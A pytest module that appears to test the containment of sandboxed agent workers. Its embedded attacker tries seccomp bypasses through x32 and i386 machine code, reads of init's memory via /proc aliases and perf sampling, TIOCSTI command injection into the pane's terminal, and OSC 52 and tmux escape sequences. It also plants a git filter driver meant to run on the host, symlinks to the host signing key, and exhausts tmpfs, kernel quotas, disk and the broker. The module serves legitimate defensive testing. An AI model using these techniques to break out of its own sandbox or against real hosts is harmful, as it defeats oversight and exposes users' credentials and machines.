"""Second-round escapes, tried from INSIDE real worker sandboxes (ADR 0012, SECURITY.md
"Containment").

`tests/security/containment/test_escapes_from_a_worker_sandbox.py` covers the first round (state
root, repository, home, tmux, placeholders, lifetimes, signals, sockets, forged bindings, /etc,
descriptors, nested repositories, credentials). This module goes deeper, with one command worker per
attacking program (`ATTACK2`, run by oms's own interpreter, which every sandbox shows read-only),
each reporting to its private home and, where the host must measure something, handshaking with the
test through files there:

- `all`: the sandbox's init through every system-call ABI the seccomp filter must cover (x86_64,
  x32, i386 `int 0x80`) and `/proc` aliases and nested namespaces; calls that inspect init without
  the filter's kin (`perf_event_open`, `kcmp`); the terminal's foreground group; secrets kept in the
  git common dir beside its sanitised config; then files left for oms to commit on the host
  (attributes naming a filter driver of the user's own git config, links to host files) before the
  demo worker records its result;
- `terminal`: input pushed into the pane's terminal (TIOCSTI) and escape sequences aimed at tmux;
- `gitlink`: a nested repository swapped in between oms's check for repositories and its `git add`;
- `resources`: RAM-backed tmpfs, the per-user kernel quotas a sandbox shares with its host user
  (inotify instances, key bytes, message-queue bytes), measured from the host as well; then disk;
- `tasks`: processes (threads are tasks: each takes a pid of the host's);
- `broker`: hostile JSON-RPC lines, a session that makes its broker keep what it sends, a hook
  flood.

Tests named after a bound or a boundary fail when the attack succeeds (an escape or an unbounded
resource); the failure message carries the numbers. The attacks use x86_64 system-call numbers and
machine code.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import platform
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from oms.adapters.panes import TmuxPanes
from oms.canonical import access
from oms.demo.scratch import WORKER_SCRIPT
from oms.services.delivery.service import Delivery
from tests.agent_side import Bound, BoundTools, bind
from tests.chain import Chain, make_chain, sandbox_dir
from tests.helpers import eventually, git
from tests.security.containment.test_escapes_from_a_worker_sandbox import (
    PY,
    _deliver,
    _diagnose,
    _environment,
    _fake_user_home,
    _gone,
    _home,
    _kill_leftovers,
    _namespaces_of,
    _processes_of,
    _read_json,
    _set_worker_argv,
    _stop,
    _wait,
    _worktree_of,
)

pytestmark = pytest.mark.skipif(
    platform.machine() != "x86_64", reason="x86_64 system calls and machine code"
)

MARK = "oms-escape-round2"
MODULE_SECRET = "oms-r2-submodule-token-8c1d"  # in a submodule's config under the common dir
THREADS = 2048  # tasks the `tasks` attacker tries to start (a per-worker bound stops it earlier)
TMPFS_FILL = 256 * 1024 * 1024  # bytes the `resources` attacker writes into its RAM-backed /tmp
BIG_METHOD = (
    1_000_000  # characters of each method name the `broker` attacker sends (under the 1 MiB cap)
)
BIG_LINES = 96  # such lines (about 96 MB the broker would keep)
HOOK_FLOOD = 300  # SessionStart hooks the `broker` attacker sends

# ----------------------------------------------------------------------------------------- attacker
ATTACK2 = r'''
import ctypes, errno, fcntl, json, mmap, os, select, socket, struct, subprocess, sys, termios
import threading, time

T = json.loads(__TARGETS__)
HOME = os.environ.get("HOME", "/oms/home")
MODE = sys.argv[1]
D, S = os.environ["OMS_DISPATCH_ID"], os.environ["OMS_SESSION_ID"]
RESULTS, SEEN = {}, {}
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X32 = 0x40000000


class Blocked(Exception):
    pass


def attempt(name, fn):
    """Like the first round: a description when it worked, OSError/Blocked when blocked, anything
    else an error in the attack (never counted as blocked)."""
    try:
        detail = fn()
    except (OSError, Blocked, subprocess.TimeoutExpired) as exc:
        RESULTS[name] = {
            "outcome": "blocked",
            "detail": (type(exc).__name__ + ": " + str(exc))[:600],
        }
    except Exception as exc:
        RESULTS[name] = {"outcome": "error", "detail": (type(exc).__name__ + ": " + str(exc))[:600]}
    else:
        RESULTS[name] = {"outcome": "escaped", "detail": str(detail)[:2000]}


def publish(name, doc):
    tmp = os.path.join(HOME, name + ".tmp")
    with open(tmp, "w") as f:
        json.dump(doc, f)
    os.rename(tmp, os.path.join(HOME, name))


def wait_go(name, timeout=60):
    """Wait for the host to write $HOME/go-<name> (a handshake; polled with a deadline)."""
    path = os.path.join(HOME, "go-" + name)
    deadline = time.monotonic() + timeout
    while not os.path.exists(path):
        if time.monotonic() > deadline:
            raise SystemExit("the host never wrote " + path)
        time.sleep(0.01)


def run(cmd, timeout=30):
    done = subprocess.run(cmd, shell=True, capture_output=True, timeout=timeout)
    return done.returncode, (done.stdout + done.stderr).decode("utf-8", "replace")


def syscall(nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    return r, ctypes.get_errno() if r == -1 else 0


# i386 system calls through `int 0x80` from this 64-bit process: f(nr, a1..a5) -> -errno or a
# result.
_I386 = bytes(
    [
        0x53,  # push rbx
        0x89,
        0xF8,  # mov eax, edi      (nr)
        0x89,
        0xF3,  # mov ebx, esi      (a1)
        0x41,
        0x89,
        0xCB,  # mov r11d, ecx     (a3, saved)
        0x89,
        0xD1,  # mov ecx, edx      (a2)
        0x44,
        0x89,
        0xDA,  # mov edx, r11d     (a3)
        0x44,
        0x89,
        0xC6,  # mov esi, r8d      (a4)
        0x44,
        0x89,
        0xCF,  # mov edi, r9d      (a5)
        0xCD,
        0x80,  # int 0x80
        0x5B,  # pop rbx
        0x48,
        0x63,
        0xC0,  # movsxd rax, eax
        0xC3,  # ret
    ]
)
_CODE = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
_CODE.write(_I386)
int80 = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 6)(
    ctypes.addressof(ctypes.c_char.from_buffer(_CODE))
)


def filtered(abi, nr, *args):
    """Does the seccomp filter refuse this call (EPERM before the kernel looks at it)? Arguments are
    harmless should it get through: pid 1 untraced, zero-length vectors."""

    def attack():
        args6 = list(args) + [0] * (5 - len(args))
        if abi == "i386":
            r = int80(nr, *args6)
            err = -r if -4096 < r < 0 else 0
        else:
            r, err = syscall(nr | (X32 if abi == "x32" else 0), *args6)
        if err == errno.EPERM:
            raise Blocked("refused by the filter (EPERM)")
        return "reached the kernel: returned %d (%s)" % (r, os.strerror(err) if err else "no error")

    return attack


def read_alias(path):
    def attack():
        with open(path, "rb") as f:
            data = f.read(4096)
        if not data:
            raise Blocked("empty")
        return "%s: %r" % (path, data[:80])

    return attack


NESTED = r"""
mkdir -p /tmp/p /tmp/p3
if mount --bind /proc /tmp/p 2>/dev/null; then
  ls /tmp/p/1 2>/dev/null | grep -q . && echo BIND-PROC-WORKED
fi
umount /proc/1 2>/dev/null && ls /proc/1 | grep -q . && echo UMOUNT-WORKED
umount -l /proc/1 2>/dev/null && ls /proc/1 | grep -q . && echo LAZY-UMOUNT-WORKED
if mount -t proc proc /tmp/p3 2>/dev/null; then
  ls /tmp/p3/1 2>/dev/null | grep -q . && echo PROC-MOUNT-WORKED
fi
echo NESTED-RAN
"""


def nested_proc():
    rc, out = run("unshare -Urm /bin/sh -c '%s'" % NESTED.replace("'", "'\\''"))
    SEEN["nested_proc"] = out.strip()
    worked = [w for w in out.split() if w.endswith("-WORKED")]
    if worked:
        return worked
    if "NESTED-RAN" not in out:
        raise Blocked("unshare -Urm failed (exit %d): %s" % (rc, out[-200:]))
    raise Blocked("every way to uncover /proc/1 refused")


def perf_read_init():
    """Sample init's user stack with perf (task clock, PERF_SAMPLE_TID | PERF_SAMPLE_STACK_USER,
    user mode only, as perf_event_paranoid 2 allows) while orphans make it reap; look for its own
    argv in the samples."""
    attr = bytearray(128)
    # type SOFTWARE, size, config TASK_CLOCK, sample_period 10 us, sample_type TID|STACK_USER,
    # read_format, flags exclude_kernel | exclude_hv; sample_stack_user at offset 88
    struct.pack_into(
        "=IIQQQQQ", attr, 0, 1, 128, 1, 10000, (1 << 1) | (1 << 13), 0, (1 << 5) | (1 << 6)
    )
    struct.pack_into("=I", attr, 88, 65528)
    buf = ctypes.create_string_buffer(bytes(attr))
    ctypes.set_errno(0)
    fd = libc.syscall(
        ctypes.c_long(298),
        buf,
        ctypes.c_long(1),
        ctypes.c_long(-1),
        ctypes.c_long(-1),
        ctypes.c_long(0),
    )
    if fd < 0:
        raise OSError(
            ctypes.get_errno(), "perf_event_open(pid 1): " + os.strerror(ctypes.get_errno())
        )
    pages = 512
    ring = mmap.mmap(fd, (1 + pages) * 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    found, samples = set(), 0
    deadline = time.monotonic() + 20
    try:
        while not found & {"--args", "bwrap"} and time.monotonic() < deadline:
            for _ in range(
                100
            ):  # orphans for init to reap: it runs, and is sampled when in user mode
                pid = os.fork()
                if pid == 0:
                    if os.fork() == 0:
                        os._exit(0)
                    os._exit(0)
                os.waitpid(pid, 0)
            head = struct.unpack_from("=Q", ring, 1024)[0]
            data = ring[4096 : 4096 + min(head, pages * 4096)]
            i, samples = 0, 0
            while i + 8 <= len(data):
                kind, _misc, size = struct.unpack_from("=IHH", data, i)
                if size == 0:
                    break
                if kind == 9:  # PERF_RECORD_SAMPLE: pid, tid, then the stack dump
                    pid, _tid, n = struct.unpack_from("=IIQ", data, i + 8)
                    stack = data[i + 24 : i + 24 + n]
                    samples += 1
                    for needle in (b"--args", b"bwrap", b"--seccomp", b"OMS_DISPATCH_ID="):
                        if pid == 1 and needle in stack:
                            found.add(needle.decode())
                i += size
    finally:
        ring.close()
        os.close(fd)
    if found & {"--args", "bwrap"}:
        return "%d samples of pid 1's user stack hold %s (init's own argv and environment)" % (
            samples,
            sorted(found),
        )
    raise Blocked("%d samples, none with init's argv" % samples)


def kcmp_init():
    r, err = syscall(312, os.getpid(), 1, 0, 0, 0)  # KCMP_FILE: our fd 0 against init's fd 0
    if err:
        raise OSError(err, "kcmp(self, 1): " + os.strerror(err))
    return "kcmp(self, 1, KCMP_FILE, 0, 0) = %d: init's descriptors can be compared with ours" % r


def foreign_foreground():
    """Make any process group this sandbox cannot see (a host one: the supervisor's, tmux's) the
    terminal's foreground. A success would let the terminal's keys and job control reach it."""
    fd = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY)
    visible = {int(p) for p in os.listdir("/proc") if p.isdigit()}
    own = os.tcgetpgrp(fd)
    took = []
    limit = T["pid_max"]  # the host's (the sandbox's own PID namespace may report another)
    try:
        for pgid in range(2, limit):
            if pgid in visible:
                continue
            try:
                os.tcsetpgrp(fd, pgid)
                took.append(pgid)
            except OSError:
                pass
    finally:
        if (
            own > 0
        ):  # 0: the foreground group is not in this PID namespace (nothing to restore from here)
            os.tcsetpgrp(fd, own)
        os.close(fd)
    SEEN["foreground_tried"] = limit - 2 - len(visible)
    if took:
        return took[:20]
    raise Blocked(
        "tcsetpgrp refused for all %d process groups outside the sandbox" % SEEN["foreground_tried"]
    )


def secret_in(path, needle):
    def attack():
        with open(path, "rb") as f:
            data = f.read(65536)
        if needle.encode() in data:
            return "%s holds the secret: %r" % (path, data[:120])
        raise Blocked("readable, but without the secret")

    return attack


# ------------------------------------------------------------------------------ the doors, raw
def header(door, argv):
    return (
        b"oms-relay-1\0"
        + door.encode()
        + b"\0"
        + str(len(argv)).encode()
        + b"\0"
        + b"".join(a.encode() + b"\0" for a in argv)
    )


HOOK_ARGV = [
    "--provider",
    "command",
    "--provider-version",
    "command-1",
    "--dispatch-id",
    D,
    "--session-id",
    S,
    "--allowed-tools",
    "",
]


def hook(event, **fields):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(30)
    s.connect(os.environ.get("OMS_BROKER_SOCKET", "/oms/broker.sock"))
    body = dict(hook_event_name=event, session_id=S, **fields)
    s.sendall(header("hook", ["--event", event, *HOOK_ARGV]) + json.dumps(body).encode())
    s.shutdown(socket.SHUT_WR)
    out = b""
    while chunk := s.recv(65536):
        out += chunk
    s.close()
    return out


class Bridge:
    """A raw MCP session on the broker (what `oms worker bridge` would relay)."""

    def __init__(self, version="2025-11-25"):
        self.s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.s.settimeout(120)
        self.s.connect(os.environ.get("OMS_BROKER_SOCKET", "/oms/broker.sock"))
        self.s.sendall(header("bridge", ["--dispatch-id", D, "--session-id", S]))
        self.f = self.s.makefile("rb")
        self.n = 0
        self.request(
            "initialize",
            {
                "protocolVersion": version,
                "capabilities": {},
                "clientInfo": {"name": "round2", "version": "1"},
            },
        )
        self.send_raw(b'{"jsonrpc":"2.0","method":"notifications/initialized"}\n')

    def send_raw(self, data):
        self.s.sendall(data)

    def reply(self):
        line = self.f.readline()
        if not line:
            raise Blocked("the broker closed the session")
        return json.loads(line)

    def request(self, method, params=None):
        self.n += 1
        doc = {"jsonrpc": "2.0", "id": self.n, "method": method}
        if params is not None:
            doc["params"] = params
        self.send_raw(json.dumps(doc).encode() + b"\n")
        return self.reply()

    def call(self, name, arguments=None):
        answer = self.request("tools/call", {"name": name, "arguments": arguments or {}})
        return json.loads(answer["result"]["content"][0]["text"])

    def close(self):
        self.f.close()
        self.s.close()


# ------------------------------------------------------------------------------ modes
def everything():
    # 1. the sandbox's init, through every ABI the filter must cover and every alias of /proc/1
    pidfd, _ = syscall(434, 1, 0)  # pidfd_open(1): allowed, and the handle the pidfd calls need
    SEEN["pidfd"] = pidfd
    calls = [
        ("ptrace(PTRACE_PEEKDATA, 1)", {"i386": 26, "x32": 521}, (2, 1, 0, 0)),
        ("process_vm_readv(1, 0 vectors)", {"i386": 347, "x32": 539}, (1, 0, 0, 0, 0)),
        ("process_vm_writev(1, 0 vectors)", {"i386": 348, "x32": 540}, (1, 0, 0, 0, 0)),
        ("pidfd_getfd(init, 0)", {"i386": 438, "x32": 438}, (pidfd, 0, 0)),
        ("process_madvise(init, 0 vectors)", {"i386": 440, "x32": 440}, (pidfd, 0, 0, 20, 0)),
    ]
    for what, numbers, args in calls:
        for abi, nr in sorted(numbers.items()):
            attempt("init: %s through the %s ABI" % (what, abi), filtered(abi, nr, *args))
    for path in (
        "/proc/1/environ",
        "/proc/1/task/1/mem",
        "/proc/self/../1/environ",
        "/proc/thread-self/../../1/status",
        "/proc/self/root/proc/1/environ",
        "/proc/2/../1/cmdline",
    ):
        attempt("init: read " + path, read_alias(path))
    attempt("init: uncover /proc/1 in a nested user and mount namespace", nested_proc)
    # 2. what inspects init without being ptrace's kin
    attempt("inspect: read init's stack through perf samples", perf_read_init)
    attempt("inspect: kcmp against init", kcmp_init)
    # 3. the terminal's foreground group
    attempt("terminal: make a process group outside the sandbox the foreground", foreign_foreground)
    # 4. secrets kept in the git common dir beside the sanitised config
    common = T["common"]
    attempt(
        "common: read a submodule's remote credentials (modules/vendor/config)",
        secret_in(common + "/modules/vendor/config", T["module_secret"]),
    )
    attempt(
        "common: read the repository's git-crypt key (git-crypt/keys/default)",
        secret_in(common + "/git-crypt/keys/default", T["crypt_key"]),
    )
    # 5. files left for oms to commit on the host: attributes naming the user's git-lfs filter,
    #    links out
    with open(".gitattributes", "w") as f:
        f.write("*.dat filter=lfs diff=lfs merge=lfs -text\n")
    with open("payload.dat", "w") as f:
        f.write("agent-chosen input for a filter that runs on the host\n")
    os.symlink(T["state"] + "/keys/state.ed25519", "leak-key")
    os.symlink(T["state"], "leak-state")
    publish("attack.json", {"results": RESULTS, "seen": SEEN})


def terminal():
    """Push a command into the pane's terminal and exit, leaving it unread; print what could make
    tmux act."""
    out = sys.stdout
    out.write(
        "\x1b]52;c;%s\x07" % "dG91Y2ggL3RtcC9wd25lZA=="
    )  # OSC 52: set the clipboard / a tmux buffer
    out.write("\x1bPtmux;\x1b\x1b]52;c;cHduZWQ=\x07\x1b\\")  # DCS passthrough to the outer terminal
    out.write("\x1b]2;%s\x07" % T["victim"])  # the pane title: another dispatch's id
    out.write("\x1bk%s\x1b\\" % T["victim"])  # the window name (allow-rename)
    out.write("\x1b]7;file://host/%s\x07" % T["state"])  # the pane's working directory
    out.flush()
    fd = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY)
    for ch in "touch '%s'\n" % T["loot"]:
        fcntl.ioctl(fd, termios.TIOCSTI, ch.encode())
    os.close(fd)
    publish("terminal.json", {"pushed": True})
    sys.exit(0)


def gitlink():
    """Leave a repository that is no repository while oms looks for one (`git ls-files --others`),
    and becomes one, by a rename, before oms's `git add --all`: inotify tells when oms's git has
    read it."""
    hook("SessionStart", source="startup")
    bridge = Bridge()
    bridge.call("read_dispatch")
    bridge.call("acknowledge_dispatch")
    with open("WORK.md", "w") as f:
        f.write("the work\n")
    sub = os.path.join(os.getcwd(), "vendor", "lib")
    os.makedirs(sub)
    with open(sub + "/.gitattributes", "w") as f:
        f.write("*.txt filter=vendored\n")
    with open(sub + "/notes.txt", "w") as f:
        f.write("a vendored library\n")
    g = "git -C '%s' -c user.name=x -c user.email=x@x " % sub
    for cmd in ("git init -q '%s'" % sub, g + "add .", g + "commit -qm vendored"):
        rc, out = run(cmd)
        if rc:
            raise SystemExit("%s: %s" % (cmd, out))
    script = (
        sub + "/clean.sh"
    )  # planted after the commit: only a later `git status` inside would run it
    with open(script, "w") as f:
        f.write("#!/bin/sh\nid -u > '%s'\ncat\n" % T["loot"])
    os.chmod(script, 0o755)
    run(g + "config filter.vendored.clean '%s'" % script)
    os.utime(sub + "/notes.txt", (0, 0))  # stat-dirty: a `git status` inside re-cleans it
    os.rename(sub + "/.git", sub + "/.git.parked")
    ino = libc.inotify_init1(os.O_CLOEXEC)
    libc.inotify_add_watch(ino, sub.encode(), 0x20 | 0x10)  # IN_OPEN | IN_CLOSE_NOWRITE
    answer = {}

    def record():
        try:
            answer.update(
                bridge.call(
                    "record_dispatch_result", {"status": "completed", "summary": "Vendored it."}
                )
            )
        except Exception as exc:
            answer["exception"] = repr(exc)

    worker = threading.Thread(target=record)
    worker.start()
    events, swapped = [], False
    deadline = time.monotonic() + 60
    while not swapped and time.monotonic() < deadline:
        ready, _, _ = select.select([ino], [], [], 1)
        if not ready:
            continue
        buf = os.read(ino, 65536)
        i = 0
        while i < len(buf):
            _wd, mask, _cookie, size = struct.unpack_from("iIII", buf, i)
            name = buf[i + 16 : i + 16 + size].rstrip(b"\0").decode()
            i += 16 + size
            events.append([mask, name])
            if (
                mask & 0x10 and name == "" and not swapped
            ):  # oms's git closed the directory: it has read it
                os.rename(sub + "/.git.parked", sub + "/.git")
                swapped = True
    worker.join(120)
    publish("gitlink.json", {"answer": answer, "events": events[:50], "swapped": swapped})


def tasks():
    # processes: threads are tasks, as fork is (each takes a pid of the host's pid_max)
    threading.stack_size(65536)
    release = threading.Event()
    threads, error = [], None
    for _ in range(T["threads"]):
        try:
            t = threading.Thread(target=release.wait)
            t.start()
            threads.append(t)
        except RuntimeError as exc:
            error = str(exc)
            break
    SEEN["tasks_started"], SEEN["tasks_error"] = len(threads), error
    release.set()
    for t in threads:
        t.join()
    SEEN["limits"] = open("/proc/self/limits").read()
    SEEN["pid_max"] = T["pid_max"]
    publish("tasks.json", {"seen": SEEN})


def resources():
    # memory: the RAM-backed file systems, and one more of any size in a nested namespace
    sizes = {}
    for path in ("/tmp", "/var/tmp", "/dev", "/dev/shm"):
        st = os.statvfs(path)
        sizes[path] = st.f_blocks * st.f_frsize
    SEEN["tmpfs_sizes"] = sizes
    rc, out = run(
        "unshare -Urm sh -c 'mkdir -p /tmp/big && mount -t tmpfs -o size=1T none /tmp/big && "
        'stat -f -c "%b %S" /tmp/big\''
    )
    SEEN["nested_tmpfs"] = [rc, out.strip()[-200:]]
    publish("memory-ready.json", {})
    wait_go("memory-baseline")
    chunk = b"\xa5" * (1 << 20)
    with open("/tmp/fill", "wb") as f:
        for _ in range(T["tmpfs_fill"] >> 20):
            f.write(chunk)
    publish("memory-filled.json", {"bytes": os.path.getsize("/tmp/fill")})
    wait_go("memory-measured")
    os.unlink("/tmp/fill")
    # per-user kernel quotas, counted for the host user the agent maps to (up the user-namespace
    # chain, or by kernel uid): inotify instances, key bytes, POSIX message-queue bytes. Take all of
    # each, then hold.
    held = {}
    fds, err = [], None
    while len(fds) < 100000:
        fd = libc.inotify_init1(os.O_CLOEXEC)
        if fd < 0:
            err = os.strerror(ctypes.get_errno())
            break
        fds.append(fd)
    held["inotify"] = [len(fds), err]
    keys, size, err = 0, 32000, None
    while size >= 1 and keys < 100000:  # big keys first, then ever smaller ones for what is left
        r = libc.syscall(
            ctypes.c_long(248),
            b"user",
            b"r2-%d" % keys,
            b"k" * size,
            ctypes.c_long(size),
            ctypes.c_long(-2),
        )  # add_key into the process keyring
        if r < 0:
            err = os.strerror(ctypes.get_errno())
            size //= 2
        else:
            keys += 1
    held["keys"] = [keys, err]

    class MqAttr(ctypes.Structure):
        _fields_ = [
            ("flags", ctypes.c_long),
            ("maxmsg", ctypes.c_long),
            ("msgsize", ctypes.c_long),
            ("curmsgs", ctypes.c_long),
            ("pad", ctypes.c_long * 4),
        ]

    queues, err = [], None
    shapes = [(10, 8192 >> i) for i in range(14)] + [(1, 1)]  # ever smaller queues for what is left
    while shapes and len(queues) < 250:  # an IPC namespace holds 256 queues
        name = b"/r2-%d" % len(queues)
        fd = libc.mq_open(
            name,
            os.O_CREAT | os.O_RDWR,
            ctypes.c_int(0o600),
            ctypes.byref(MqAttr(0, *shapes[0], 0)),
        )
        if fd < 0:
            err = os.strerror(ctypes.get_errno())
            shapes.pop(0)
        else:
            queues.append(name)
    held["mqueue"] = [len(queues), err]
    publish("quotas-held.json", held)
    wait_go("quotas-checked")
    for fd in fds:
        os.close(fd)
    libc.syscall(
        ctypes.c_long(250), ctypes.c_long(7), ctypes.c_long(-2)
    )  # keyctl(KEYCTL_CLEAR, process keyring)
    for name in queues:
        libc.mq_unlink(name)
    # disk: fill the home and the worktree (files each under the largest file a sandbox may write)
    for name, path in (("home", HOME), ("worktree", os.getcwd())):
        st = os.statvfs(path)
        wrote, error = 0, None
        for i in range(T["disk_files"]):
            try:
                with open(path + "/fill-%d" % i, "wb") as f:
                    os.posix_fallocate(f.fileno(), 0, T["disk_file"])
                wrote += T["disk_file"]
            except OSError as exc:
                error = str(exc)
                break
        SEEN["disk_" + name] = {"total": st.f_blocks * st.f_frsize, "wrote": wrote, "error": error}
    publish("resources.json", {"seen": SEEN})


def broker():
    # hostile lines: deep nesting, a batch of ten thousand, duplicate ids; then the doors still work
    old = Bridge("2025-03-26")
    seen = {}
    old.send_raw(b"[" * 900000 + b"\n")
    seen["deep_array"] = old.reply()
    old.send_raw(b'{"a":' * 150000 + b"\n")
    seen["deep_object"] = old.reply()
    batch = (
        b"["
        + b",".join(b'{"jsonrpc":"2.0","id":%d,"method":"ping"}' % i for i in range(10000))
        + b"]\n"
    )
    t0 = time.monotonic()
    old.send_raw(batch)
    answer = old.reply()
    seen["batch_pings"] = [
        len(answer) if isinstance(answer, list) else answer,
        time.monotonic() - t0,
    ]
    calls = b",".join(
        b'{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"read_dispatch"}}' % i
        for i in range(200)
    )
    t0 = time.monotonic()
    old.send_raw(b"[" + calls + b"]\n")
    answer = old.reply()
    seen["batch_reads"] = [
        len(answer) if isinstance(answer, list) else answer,
        time.monotonic() - t0,
    ]
    old.send_raw(
        b'{"jsonrpc":"2.0","id":7,"method":"ping"}\n{"jsonrpc":"2.0","id":7,"method":"ping"}\n'
    )
    seen["duplicate_ids"] = [old.reply(), old.reply()]
    old.close()
    fresh = Bridge()
    seen["read_dispatch_after"] = fresh.call("read_dispatch").get("dispatch_id")
    fresh.close()
    publish("hostile.json", seen)
    # a hook flood: every SessionStart writes a new version of the session record
    wait_go("hooks")
    t0 = time.monotonic()
    answers = [hook("SessionStart", source="startup") for _ in range(T["hook_flood"])]
    publish(
        "hooks-sent.json",
        {
            "sent": len(answers),
            "seconds": time.monotonic() - t0,
            "answered": sum(a.partition(b"\n")[2].startswith(b"{") for a in answers),
            "applied": sum(b"read_dispatch" in a for a in answers),
        },
    )
    # a session that makes its broker keep everything it sends (each method name is logged, forever)
    session = Bridge()
    publish("session-open.json", {})
    wait_go("rss-before")
    name = "m" * T["big_method"]
    for i in range(T["big_lines"]):
        session.send_raw(b'{"jsonrpc":"2.0","id":%d,"method":"%s"}\n' % (i + 10, name.encode()))
        session.reply()
    publish("session-sent.json", {"lines": T["big_lines"], "bytes": T["big_lines"] * len(name)})
    wait_go("rss-after")
    session.close()


if MODE == "all":
    everything()
    os.execv("/bin/sh", ["/bin/sh", sys.argv[2], "full", "wait"])
elif MODE == "terminal":
    terminal()
else:
    {"gitlink": gitlink, "resources": resources, "tasks": tasks, "broker": broker}[MODE]()
    os.execv("/bin/sleep", ["sleep", "600"])
'''


def _program(targets: dict[str, Any]) -> str:
    return f"#!{PY}\n" + ATTACK2.replace("__TARGETS__", repr(json.dumps(targets)))


# ------------------------------------------------------------------------------------------ harness
@dataclass
class Run:
    """One attacking worker: where it is, what it reported, what the host saw."""

    chain: Chain
    dispatch_id: str = ""
    session_id: str = ""
    home: Path = Path()
    results: dict[str, dict[str, Any]] = field(default_factory=dict)
    seen: dict[str, Any] = field(default_factory=dict)
    host: dict[str, Any] = field(default_factory=dict)

    def blocked(self, prefix: str) -> None:
        """Every attempt whose name starts with `prefix` ran and was blocked."""
        chosen = {k: v for k, v in self.results.items() if k.startswith(prefix)}
        assert chosen, f"no attempt named {prefix!r} ran: {sorted(self.results)}"
        escaped = {k: v["detail"] for k, v in chosen.items() if v["outcome"] == "escaped"}
        assert not escaped, f"escaped: {json.dumps(escaped, indent=2)}"
        broken = {k: v["detail"] for k, v in chosen.items() if v["outcome"] != "blocked"}
        assert not broken, f"attempts without a verdict: {json.dumps(broken, indent=2)}"

    def go(self, name: str) -> None:
        (self.home / f"go-{name}").write_text("go\n")

    def wait(self, name: str, timeout: float = 60.0) -> dict[str, Any]:
        return _read_json(self.home / name, timeout, self.chain, self.dispatch_id)


@contextlib.contextmanager
def _world(factory: pytest.TempPathFactory, name: str, gitconfig: str = "") -> Iterator[Chain]:
    """A chain of its own with the first round's environment (fake user home, API keys), for a
    module-scoped run; `gitconfig` is appended to the fake user's ~/.gitconfig. Its tmux server is
    killed afterwards."""
    base = factory.mktemp(name)
    mp = pytest.MonkeyPatch()
    home = _fake_user_home(base)
    if gitconfig:
        with (home / ".gitconfig").open("a") as f:
            f.write(gitconfig)
    _environment(mp, base, home)
    chain = next(make_chain(base))
    try:
        yield chain
    finally:
        subprocess.run(
            ["tmux", "-S", str(chain.state / "tmux.sock"), "kill-server"],
            capture_output=True,
            check=False,
        )
        mp.undo()


def _start(chain: Chain, argv: list[str], title: str, **targets: Any) -> Run:
    """Write the attacker with `targets`, point the command role at it and deliver a dispatch."""
    program = chain.base / f"attack-{len(list(chain.base.glob('attack-*')))}.py"
    pid_max = int(Path("/proc/sys/kernel/pid_max").read_text())
    common = str(chain.repo / ".git")
    program.write_text(
        _program({"state": str(chain.state), "common": common, "pid_max": pid_max, **targets})
    )
    program.chmod(0o755)
    _set_worker_argv(chain, [str(program), *argv])
    dispatch_id, session_id = _deliver(chain, title)
    return Run(chain, dispatch_id, session_id, _home(chain, session_id))


@contextlib.contextmanager
def _running(run: Run) -> Iterator[Run]:
    """Stop the worker afterwards and make sure nothing of it is left."""
    namespaces = _namespaces_of(run.dispatch_id)
    try:
        yield run
    finally:
        namespaces |= _namespaces_of(run.dispatch_id)
        with contextlib.suppress(Exception):
            _stop(run.chain, run.dispatch_id)
        _kill_leftovers(list(_gone(run.dispatch_id, namespaces, timeout=10)))


def _supervisor(run: Run) -> int:
    with run.chain.workspace() as ws:
        pane = Delivery.open(ws).panes.observe(run.dispatch_id)
    assert pane is not None
    return pane.pane_pid


def _rss(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise AssertionError(f"no VmRSS for pid {pid}")


def _meminfo(key: str) -> int:
    for line in Path("/proc/meminfo").read_text().splitlines():
        if line.startswith(key + ":"):
            return int(line.split()[1]) * 1024
    raise AssertionError(f"no {key} in /proc/meminfo")


def _cgroup_limit(pid: int, controller: str) -> int | None:
    """The tightest `controller` limit (memory: bytes, pids: tasks) on the cgroups of `pid`, or
    None."""
    files = {"memory": ("memory.max", "memory.limit_in_bytes"), "pids": ("pids.max",)}[controller]
    limits = []
    for line in Path(f"/proc/{pid}/cgroup").read_text().splitlines():
        _, names, path = line.split(":", 2)
        if names == "" or controller in names.split(","):
            mount = Path("/sys/fs/cgroup") / (controller if names else "")
            if names == "" and (Path("/sys/fs/cgroup") / "unified").is_dir():
                mount = Path("/sys/fs/cgroup/unified")
            node = mount / path.lstrip("/")
            while True:
                for name in files:
                    with contextlib.suppress(OSError, ValueError):
                        text = (node / name).read_text().strip()
                        if text != "max":
                            limits.append(int(text))
                if node == mount:
                    break
                node = node.parent
    bounded = [n for n in limits if n < 2**62]
    return min(bounded) if bounded else None


def _host_quota_calls() -> dict[str, str]:
    """One inotify instance, one small key, one small POSIX message queue, made (and dropped) by
    this host process: "ok" or the error."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    out = {}
    fd = libc.inotify_init1(os.O_CLOEXEC)
    out["inotify_init1"] = "ok" if fd >= 0 else os.strerror(ctypes.get_errno())
    if fd >= 0:
        os.close(fd)
    payload = b"host"
    key = libc.syscall(248, b"user", f"{MARK}-{os.getpid()}".encode(), payload, len(payload), -2)
    out["add_key"] = "ok" if key >= 0 else os.strerror(ctypes.get_errno())
    if key >= 0:
        libc.syscall(250, 21, key)  # keyctl(KEYCTL_INVALIDATE, key)

    class MqAttr(ctypes.Structure):
        _fields_ = [
            ("flags", ctypes.c_long),
            ("maxmsg", ctypes.c_long),
            ("msgsize", ctypes.c_long),
            ("curmsgs", ctypes.c_long),
            ("pad", ctypes.c_long * 4),
